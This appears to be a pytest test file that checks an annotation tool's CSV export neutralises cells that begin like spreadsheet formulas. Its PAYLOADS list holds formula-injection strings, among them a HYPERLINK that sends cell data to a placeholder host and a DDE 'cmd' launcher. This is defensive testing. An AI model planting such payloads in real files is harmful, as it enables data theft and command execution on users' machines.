"""Tests for the CSV tables: read back with the csv module, formula cells neutralised."""

import csv
from pathlib import Path

import pytest

from annotator.formats import csv_tables
from tests.test_format_common import sample_records

PAYLOADS = ['=HYPERLINK("http://canary.invalid/?x="&A1,"x")', "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)", "\t=1+1", "\r=1+1", "＝1+1"]


def table(folder: Path, name: str) -> list[dict]:
    with (folder / f"{name}.csv").open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def hostile_record() -> dict:
    """A record whose paragraph, label, span text and layer all start like formulas."""
    record = sample_records()[0]
    texts = [f"{payload}, said Kyiv,\n\"quoted\"" for payload in PAYLOADS]
    record["paragraphs"] = [{"index": i, "text": t, "boilerplate": False}
                            for i, t in enumerate(texts)]
    record["spans"] = [{"id": f"s{i}", "paragraph": i, "start": 0, "end": len(PAYLOADS[i]),
                        "text": PAYLOADS[i], "label": "=LABEL", "attrs": {}}
                       for i in range(len(PAYLOADS))]
    record["events"], record["attributions"] = [], [
        {"id": "a1", "source": [], "cue": ["s0"], "content": ["s1", "s2"], "parent": None,
         "attrs": {}}]
    record["layer"] = "@coder"
    return record


def test_formula_cells_are_neutralised_and_everything_else_survives(tmp_path):
    csv_tables.write([hostile_record()], tmp_path / "out")
    paragraphs = table(tmp_path / "out", "paragraphs")
    assert [row["text"] for row in paragraphs] == [
        f"'{payload}, said Kyiv,\n\"quoted\"" for payload in PAYLOADS]
    spans = table(tmp_path / "out", "spans")
    assert [row["text"] for row in spans] == [f"'{payload}" for payload in PAYLOADS]
    assert {row["label"] for row in spans} == {"'=LABEL"}
    assert {row["layer"] for row in spans} == {"'@coder"}
    for row in spans:  # the offsets still slice the stored text, which the ' is not part of
        text = paragraphs[int(row["paragraph"])]["text"][1:]
        assert "'" + text[int(row["start"]):int(row["end"])] == row["text"]
    (attribution,) = table(tmp_path / "out", "attributions")
    assert attribution["cue_text"] == "'" + PAYLOADS[0]
    assert attribution["content_text"] == f"'{PAYLOADS[1]} … {PAYLOADS[2]}"


def test_files_use_rfc_4180_line_ends_and_quoting(tmp_path):
    csv_tables.write([hostile_record()], tmp_path / "out")
    raw = (tmp_path / "out" / "paragraphs.csv").read_bytes()
    assert raw.startswith(b"document,paragraph,boilerplate,text\r\n")
    assert b'""quoted""' in raw


@pytest.mark.parametrize("value, expected", [("=1", "'=1"), ("a=1", "a=1"), ("", ""),
                                             (" =1", " =1"), (3, 3), ("－1", "'－1")])
def test_neutralise_touches_only_cells_that_start_like_formulas(value, expected):
    assert csv_tables.neutralise(value) == expected


def test_documents_and_layers_get_their_rows_and_a_split_column(tmp_path):
    report = csv_tables.write(sample_records(), tmp_path / "out", split=(80, 10, 10))
    spans = table(tmp_path / "out", "spans")
    assert {row["layer"] for row in spans} == {"gold", "coder_a"}
    assert {row["split"] for row in spans} <= {"train", "dev", "test"}
    assert len(table(tmp_path / "out", "paragraphs")) == 3  # once per document
    events = table(tmp_path / "out", "events")
    assert [row["trigger_text"] for row in events] == ["exchanged", "exchanged"]
    assert report["counts"]["spans"] == len(spans)
